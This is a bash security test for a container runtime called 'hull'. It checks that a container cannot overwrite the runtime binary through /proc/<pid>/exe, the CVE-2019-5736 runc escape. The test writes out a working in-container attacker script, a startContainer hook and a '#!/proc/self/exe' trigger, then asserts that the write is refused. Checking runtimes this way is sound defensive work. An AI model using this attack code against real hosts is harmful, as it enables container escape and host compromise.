#!/bin/bash
# test_cve_2019_5736.sh — a container must not be able to overwrite the hull
# binary through /proc/<pid>/exe of a hull process it can see.
#
# The attack (as in the original runc exploit): get an fd on the hull binary
# through /proc/<pid>/exe of a process that runs hull inside the container,
# wait until no hull process executes the file any more (ETXTBSY), then reopen
# the fd for writing through /proc/self/fd/N and write.  Two ways in:
#   run:  a startContainer hook (runs in the container while the init is
#         still hull, before it execs the workload) spawns the attacker on
#         /proc/1/exe;
#   exec: the container's process waits for `hull exec` to run /evil.sh, a
#         `#!/proc/self/exe --log=/fifo` script: the exec'd process re-runs
#         whatever hull binary it came from, as a container process, and
#         blocks opening the fifo until the attacker has its fd.
# The hull under test is a copy in $WORK; its sha256 must not change, the
# attacker must report its write as refused, and /proc/<pid>/exe must not name
# the host file (hull runs from a read-only overlay view or a sealed memfd).
set -uo pipefail
. "$(dirname "$0")/sec-lib.sh"
mh_init test_cve_2019_5736 "$0" "$@"

mkdir -p "$WORK/bin"
cp "$HULL" "$WORK/bin/hull"
chmod 0755 "$WORK/bin/hull"
HULL=$WORK/bin/hull
SHA0=$(sha256sum "$HULL" | cut -d' ' -f1)

B=$WORK/b
OUT=
write_attacker() {  # rootfs
	cat > "$1/watch.sh" <<'EOF'
#!/bin/sh
# watch.sh pid1|fifo — the attacker, inside the container
out() { echo "$*" > /result.tmp; mv /result.tmp /result; exit 0; }
if [ "$1" = pid1 ]; then
	target=$2    # the hook opened fd 3 on /proc/1/exe while the init was hull
else
	pid= i=0
	while [ -z "$pid" ]; do
		for d in /proc/[0-9]*; do
			case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
			*--log=/fifo*) pid=${d#/proc/}; break ;;
			esac
		done
		i=$((i + 1)); [ $i -gt 3000 ] && out "no target"
		[ -z "$pid" ] && usleep 10000
	done
fi
if [ "$1" = fifo ]; then
	exec 3< /proc/$pid/exe || out "cannot open /proc/$pid/exe"
	target=$(readlink /proc/$pid/exe)
	cat /fifo > /dev/null &
fi
i=0
while [ $i -lt 200 ]; do
	msg=$( { printf PWNED >> /proc/self/fd/3; } 2>&1 ) && out "wrote $target"
	case "$msg" in *busy*) ;; *) out "refused $target: $msg" ;; esac
	i=$((i + 1)); usleep 100000
done
out "still busy $target"
EOF
	cat > "$1/hook.sh" <<'EOF'
#!/bin/sh
exec 3< /proc/1/exe || { echo "cannot open /proc/1/exe" > /result; exit 0; }
t=$(readlink /proc/1/exe)
setsid /bin/sh /watch.sh pid1 "$t" </dev/null >/dev/null 2>&1 &
EOF
	printf '#!/proc/self/exe --log=/fifo\n' > "$1/evil.sh"
	chmod 0755 "$1/watch.sh" "$1/hook.sh" "$1/evil.sh"
	# most images have a libc: give this one hull's, so hull can run inside
	local lib
	for lib in $(ldd "$HULL" | grep -o '/[^ ]*'); do
		mkdir -p "$1$(dirname "$lib")"
		cp -L "$lib" "$1$lib"
	done
	rm -f "$1/fifo" "$1/result"
	mkfifo "$1/fifo"
}

check_result() {  # what
	local res
	res=$(cat "$B/rootfs/result" 2>/dev/null)
	check "$1: the attacker got an fd on the hull process's exe ($res)" \
		eval '[ -n "$res" ] && [ "${res#no target}" = "$res" ] && [ "${res#cannot open}" = "$res" ]'
	check "$1: its write through /proc/self/fd was refused" eval 'case "$res" in refused*) true ;; *) false ;; esac'
	check "$1: the hull binary is unchanged" [ "$(sha256sum "$HULL" | cut -d' ' -f1)" = "$SHA0" ]
	check "$1: the hull process did not run from the host file" eval 'case "$res" in *" $HULL"*) false ;; *) true ;; esac'
}

# ---- during run: the init, before it execs the workload --------------------
mh_bundle "$B" '.root.readonly = false
	| .hooks.startContainer = [ { path: "/bin/sh", args: [ "sh", "/hook.sh" ] } ]' /bin/sleep 30
write_attacker "$B/rootfs"
ID=cve5736-run-$$
(cd "$B" && timeout 60 "$HULL" --root "$STATE" run -d --bundle "$B" "$ID" </dev/null >/dev/null 2>"$WORK/stderr")
RC=$? ERR=$(cat "$WORK/stderr")
check "run -d with a startContainer hook" [ "$RC" = 0 ]
wait_file "$B/rootfs/result" 30
check_result run
sec_rm "$ID"

# ---- during exec: the exec'd process re-running /proc/self/exe -------------
mh_bundle "$B" '.root.readonly = false' /bin/sh /watch.sh fifo
write_attacker "$B/rootfs"
ID=cve5736-exec-$$
(cd "$B" && timeout 60 "$HULL" --root "$STATE" run -d --bundle "$B" "$ID" </dev/null >/dev/null 2>"$WORK/stderr")
RC=$? ERR=$(cat "$WORK/stderr")
check "run -d the attacker" [ "$RC" = 0 ]
sec_exec "$ID" /evil.sh
wait_file "$B/rootfs/result" 30
check_result exec
sec_rm "$ID"

mh_done
